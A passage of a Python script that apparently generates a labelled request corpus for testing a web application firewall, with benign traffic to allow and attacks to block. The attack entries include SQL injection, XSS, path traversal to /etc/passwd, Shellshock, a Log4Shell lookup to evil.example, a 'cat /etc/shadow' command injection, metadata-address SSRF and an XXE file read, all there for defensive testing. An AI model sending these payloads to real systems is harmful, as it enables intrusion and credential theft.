    {"User-Agent": "curl/8.5.0"}, {"User-Agent": "python-requests/2.31.0"}, {"User-Agent": "okhttp/4.12.0"},
    {"Referer": "https://www.google.com/search?q=o%27reilly+books"}, {"Referer": "http://localhost:3000/dashboard"},
    {"Cookie": "session=abc123; theme=dark; lang=en-US"}, {"Cookie": "cart=%7B%22items%22%3A%5B1%2C2%5D%7D"},
    {"X-Forwarded-For": "203.0.113.7, 10.0.0.1"}, {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"},
    {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
]


def benign_entries():
    out = []
    n = 0

    def add(req, decoded, source):
        nonlocal n
        n += 1
        req.update({"id": f"benign-{n:03d}", "category": "benign", "expect": "allow", "decoded": decoded, "source": source})
        out.append(req)

    for i, t in enumerate(BENIGN_TEXT):
        k = i % 3
        if k == 0:
            add({"method": "GET", "url": f"/search?q={q(t)}"}, t, "written for this corpus: everyday text in a search box")
        elif k == 1:
            add({"method": "POST", "url": "/comments", "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                 "body": f"author=sam&comment={urllib.parse.quote_plus(t)}"}, t, "written for this corpus: comment form")
        else:
            add({"method": "POST", "url": "/api/notes", "headers": {"Content-Type": "application/json"},
                 "body": json.dumps({"text": t})}, t, "written for this corpus: JSON API field")
    for i, t in enumerate(BENIGN_MORE):
        k = i % 3
        if k == 0:
            add({"method": "GET", "url": f"/search?q={q(t)}"}, t, "written for this corpus: support and review text")
        elif k == 1:
            add({"method": "POST", "url": "/api/messages", "headers": {"Content-Type": "application/json"},
                 "body": json.dumps({"message": t, "channel": "support"})}, t, "written for this corpus: support and review text")
        else:
            add({"method": "POST", "url": "/feedback", "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                 "body": f"rating=4&text={urllib.parse.quote_plus(t)}"}, t, "written for this corpus: support and review text")
    for i, t in enumerate(BENIGN_CODE):
        if i % 2 == 0:
            add({"method": "POST", "url": "/forum/post", "headers": {"Content-Type": "application/x-www-form-urlencoded"},
                 "body": f"title=question&body={urllib.parse.quote_plus(t)}"}, t, "written for this corpus: code snippet in a forum post")
        else:
            add({"method": "POST", "url": "/api/snippets", "headers": {"Content-Type": "application/json"},
                 "body": json.dumps({"snippet": t, "lang": "text"})}, t, "written for this corpus: code snippet in JSON")
    for doc in BENIGN_JSON:
        add({"method": "POST", "url": "/api/records", "headers": {"Content-Type": "application/json"}, "body": json.dumps(doc)},
            json.dumps(doc), "written for this corpus: JSON document")
    for h in BENIGN_HEADERS:
        add({"method": "GET", "url": "/", "headers": h}, json.dumps(h), "written for this corpus: ordinary client headers")
    # Ordinary API calls.
    for url in ["/api/v1/orders?page=2&per_page=50&sort=-created_at", "/products/42/reviews?rating=5", "/static/app.9f8e7d.js",
                "/search?q=c%2B%2B+tutorial", "/search?q=100%25+cotton", "/users/me", "/search?q=what%27s+new",
                "/download?file=report-2024.pdf", "/redirect?next=%2Fdashboard", "/search?q=%22exact+phrase%22",
                "/calendar?from=2024-01-01&to=2024-12-31", "/api/items?ids=1,2,3", "/search?q=SELECT+dresses+on+sale",
                "/search?q=union+jack+flag", "/search?q=drop+earrings", "/search?q=sleep+mask", "/search?q=cat+food",
                "/search?q=ping+pong+table", "/go?url=https%3A%2F%2Fexample.org%2Fabout"]:
        add({"method": "GET", "url": url}, urllib.parse.unquote_plus(url), "written for this corpus: ordinary API and page requests")
    # A multipart upload with a text field and a small file.
    b = "----formboundary7MA4YWxk"
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nMy cat's birthday; she's 3!\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"cat.png\"\r\nContent-Type: image/png\r\n\r\n"
            f"PNGDATA-not-really\r\n--{b}--\r\n")
    add({"method": "POST", "url": "/upload", "headers": {"Content-Type": f"multipart/form-data; boundary={b}"}, "body": body},
        "caption=My cat's birthday; she's 3! + photo cat.png", "written for this corpus: multipart upload")
    return out


def protocol_entries():
    src_smuggle = "RFC 9112 §6.1 and PortSwigger's HTTP request smuggling research"
    out = []

    def add(req, decoded, source):
        req.update({"id": f"protocol-{len(out) + 1:03d}", "category": "protocol", "expect": "block", "decoded": decoded, "source": source})
        out.append(req)

    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": "6", "Transfer-Encoding": "chunked"},
         "body": "0\r\n\r\n"}, "Content-Length and Transfer-Encoding together", src_smuggle)
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded", "Transfer-Encoding": "chunked, identity"},
         "body": "5\r\na=b&c\r\n0\r\n\r\n"}, "Transfer-Encoding: chunked, identity", src_smuggle)
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded", "Transfer-Encoding": "xchunked"},
         "body": "a=1"}, "Transfer-Encoding: xchunked", src_smuggle)
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded", "Transfer-Encoding": "chunked"},
         "body": "zz\r\na=b\r\n0\r\n\r\n"}, "chunk size zz", "RFC 9112 §7.1: chunk-size is hexadecimal")
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded", "Transfer-Encoding": "chunked"},
         "body": "-5\r\nhello\r\n0\r\n\r\n"}, "negative chunk size", "RFC 9112 §7.1: chunk-size is hexadecimal")
    add({"method": "GET", "url": "/download?file=report.pdf%00.jpg"}, "report.pdf\\0.jpg", "OWASP: Embedding Null Code")
    add({"method": "GET", "url": "/search?q=abc%00def"}, "abc\\0def", "OWASP: Embedding Null Code")
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded"}, "body": "name=a%00b"},
        "a\\0b", "OWASP: Embedding Null Code")
    add({"method": "GET", "url": "/search?q=%C0%BCscript%C0%BE"}, "overlong '<script>'", "RFC 3629 §10: overlong UTF-8 forms")
    add({"method": "GET", "url": "/files?p=%C0%AE%C0%AE%C0%AF"}, "overlong '../'", "RFC 3629 §10: overlong UTF-8 forms")
    add({"method": "GET", "url": "/search?" + "&".join(f"a{i}=1" for i in range(300))}, "300 arguments", "CRS 920380-style argument count limit")
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded"}, "body": "comment=" + "A" * 20000},
        "20000-byte argument", "CRS 920370-style argument length limit")
    add({"method": "POST", "url": "/upload", "headers": {"Content-Type": "multipart/form-data"}, "body": "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n"},
        "multipart without boundary", "RFC 7578 §4.1: boundary parameter is required")
    add({"method": "POST", "url": "/upload", "headers": {"Content-Type": "multipart/form-data; boundary=abc"}, "body": "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n"},
        "multipart boundary absent from body", "RFC 7578 §4.1: boundary parameter is required")
    add({"method": "POST", "url": "/form", "headers": {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": "abc"}, "body": ""},
        "Content-Length: abc", "RFC 9110 §8.6: Content-Length is 1*DIGIT")
    return out


def scanner_entries():
    agents = [
        ("sqlmap documentation (default user-agent)", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("Nikto documentation", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"),
        ("Nmap NSE http library documentation", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("Acunetix documentation", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 Acunetix-Product"),
        ("WPScan documentation", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        ("Gobuster documentation", "gobuster/3.6"),
        ("ffuf documentation", "Fuzz Faster U Fool v2.1.0-dev"),
        ("Masscan documentation", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        ("Nuclei documentation", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ("w3af documentation", "w3af.org"),
        ("Wfuzz documentation", "Wfuzz/3.1.0"),
        ("OpenVAS documentation", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"),
        ("Netsparker documentation", "Mozilla/5.0 (compatible; Netsparker)"),
        ("commix documentation", "commix/v3.9 (https://commixproject.com)"),
        ("Arachni documentation", "Arachni/v1.6.1.3"),
        ("feroxbuster documentation", "feroxbuster/2.10.1"),
    ]
    out = []
    for i, (src, ua) in enumerate(agents):
        out.append({"id": f"scanner-{i + 1:03d}", "category": "scanner", "expect": "block", "method": "GET",
                    "url": ["/", "/index.php", "/admin/", "/robots.txt"][i % 4], "headers": {"User-Agent": ua}, "decoded": ua, "source": src})
    return out


def lfi_place(i, p):
    if p in LFI_ENCODED:
        req = {"method": "GET", "url": f"/download?file={p}"} if i % 2 == 0 else {"method": "GET", "url": f"/view?page={p}"}
        return req
    return placements(i, p, param=["file", "page", "template", "path", "doc"][i % 5])


# Attacks carried where the application reads them without a parameter: headers, path segments,
# argument names, JSON keys, text bodies. (Same sources as the families above.)
EXTRA = {
    "sqli": [
        ({"method": "GET", "url": "/", "headers": {"User-Agent": "Mozilla/5.0' or 1=1--"}}, "Mozilla/5.0' or 1=1--"),
        ({"method": "GET", "url": "/", "headers": {"X-Forwarded-For": "10.1.1.1' AND SLEEP(5)--"}}, "10.1.1.1' AND SLEEP(5)--"),
        ({"method": "GET", "url": "/users/1%20OR%201=1"}, "/users/1 OR 1=1"),
        ({"method": "GET", "url": "/s?id%27%20or%201%3D1--=1"}, "argument name: id' or 1=1--"),
        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/json"}, "body": '{"q": "\\u0027 or \\u00271\\u0027=\\u00271"}'},
         "JSON \\u escapes: ' or '1'='1"),
    ],
    "xss": [
        ({"method": "GET", "url": "/", "headers": {"Referer": "https://x.example/<script>alert(1)</script>"}}, "Referer with <script>"),
        ({"method": "GET", "url": "/search/%3Csvg%20onload=alert(1)%3E"}, "/search/<svg onload=alert(1)>"),
        ({"method": "GET", "url": "/s?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"}, "argument name <img src=x onerror=alert(1)>"),
        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "text/plain"}, "body": "<script>alert(1)</script>"}, "text/plain body"),
    ],
    "lfi": [
        ({"method": "GET", "url": "/index.php/..%2f..%2f..%2fetc/passwd"}, "/index.php/../../../etc/passwd"),
        ({"method": "GET", "url": "/.git/config"}, "/.git/config"),
        ({"method": "GET", "url": "/static/..%5c..%5c..%5cwindows/win.ini"}, "/static/..\\..\\..\\windows/win.ini"),
    ],
    "rce": [
        ({"method": "GET", "url": "/", "headers": {"User-Agent": "() { :; }; /bin/bash -c 'id'"}}, "Shellshock in User-Agent"),
        ({"method": "GET", "url": "/", "headers": {"X-Api-Version": "${jndi:ldap://evil.example/x}"}}, "Log4Shell in a custom header"),
        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/json; charset=utf-8"},
          "body": json.dumps({"target": "ping -c 1 127.0.0.1; cat /etc/shadow"})}, "ping -c 1 127.0.0.1; cat /etc/shadow"),
    ],
    "ssrf": [
        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"avatar_url": "http://169.254.169.254/latest/meta-data/"})},
         "http://169.254.169.254/latest/meta-data/ in JSON"),
        ({"method": "POST", "url": "/api", "headers": {"Content-Type": "application/xml"},
          "body": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}, "XML external entity with file://"),
    ],
}

BENIGN_REQUESTS = [
    {"url": "/api/v2/search?q=women%27s+running+shoes&size=8&sort=price_asc"},
    {"url": "/", "headers": {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0"}},
    {"url": "/", "headers": {"User-Agent": "Googlebot/2.1 (+http://www.google.com/bot.html)"}},
    {"url": "/", "headers": {"Referer": "https://www.bing.com/search?q=select+a+union+plan&form=QBLH"}},
    {"url": "/", "headers": {"Cookie": "_ga=GA1.2.123456789.1700000000; _gid=GA1.2.987654321.1700000000; consent={\"ads\":false}"}},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"redirect": "https://example.com/welcome?ref=email&utm_campaign=spring", "webhook": "https://hooks.example.com/services/T000/B000/XXXX"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"password": "Tr0ub4dor&3", "confirm": "Tr0ub4dor&3"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"text": "l'été; c'est la vie -- à bientôt!"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"email": "o'connor@example.com", "name": "Siobhán O'Connor"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"query": "price < 100 and brand = 'nike'", "page": 2})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"markdown": "# Title\n\n- item 1\n- item 2\n\n> quote\n\n`code` and **bold**"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"html": "<p>Hello <a href=\"https://example.com\">world</a></p><ul><li>one</li></ul>"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"path": "/var/www/html/uploads/2024/photo.jpg"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"comment": "I tried rm -rf node_modules and reinstalling; still broken."})},
    {"url": "/files/reports/2024/Q1%20summary.pdf"}, {"url": "/wiki/Union_(set_theory)"}, {"url": "/wiki/Rock_%27n%27_roll"},
    {"url": "/blog/2024/05/why-we-chose-postgres-over-mysql"}, {"url": "/search?q=how+to+exit+vim+%3Awq"},
    {"url": "/search?q=%3Cbr%3E+vs+%3Cbr%2F%3E"}, {"url": "/search?q=c%23+vs+java"}, {"url": "/search?q=1%2B1%3D2"},
    {"url": "/api/items?filter=status%3Dactive%26type%3Dbook"}, {"url": "/login?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity"},
    {"url": "/", "headers": {"X-Forwarded-For": "198.51.100.23, 10.0.0.2"}},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"filename": "my resume (final).docx", "size": 23456})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"bio": "Full-stack dev. Python; Go; Rust. Opinions are mine & not my employer's."})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"formula": "=SUM(A1:A10)", "note": "spreadsheet"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"cron": "*/5 * * * * /usr/bin/backup.sh"})},
    {"url": "/api", "method": "POST", "headers": {"Content-Type": "application/json"}, "body": json.dumps({"shell_tip": "Use && to chain commands, e.g. make && make install"})},
]


def main():
    files = {
        "sqli": entries("sqli", SQLI, "block", lambda i, p: placements(i, p, param=["id", "q", "user", "sort", "cat"][i % 5])),
        "xss": entries("xss", XSS, "block", lambda i, p: placements(i, p, param=["q", "comment", "name", "redirect", "title"][i % 5])),
        "lfi": entries("lfi", LFI, "block", lfi_place),
        "rce": entries("rce", RCE, "block", lambda i, p: placements(i, p, param=["host", "cmd", "ip", "file", "name"][i % 5])),
        "ssrf": entries("ssrf", SSRF, "block", ssrf_place),
        "protocol": protocol_entries(),
        "scanner": scanner_entries(),
        "benign": benign_entries(),
    }
    for cat, extra in EXTRA.items():
        for req, decoded in extra:
            r = dict(req)
            r.update({"id": f"{cat}-{len(files[cat]) + 1:03d}", "category": cat, "expect": "block", "decoded": decoded,
                      "source": "placement: headers, path segments, argument names, JSON escapes, text and XML bodies"})
            files[cat].append(r)
    for req in BENIGN_REQUESTS:
        r = dict(req)
        r.setdefault("method", "GET")
        r.update({"id": f"benign-{len(files['benign']) + 1:03d}", "category": "benign", "expect": "allow",
                  "decoded": r.get("body") or r["url"], "source": "written for this corpus: ordinary API, page and header traffic"})
        files["benign"].append(r)
    for name, rows in files.items():
        path = os.path.join(HERE, f"{name}.jsonl")
        with open(path, "w", encoding="utf-8") as f:
            f.write(f"# {name}: {len(rows)} requests, generated by corpus/waf/generate.py; one JSON object per line\n")
            for r in rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
        print(f"{path}: {len(rows)}")


if __name__ == "__main__":
    main()
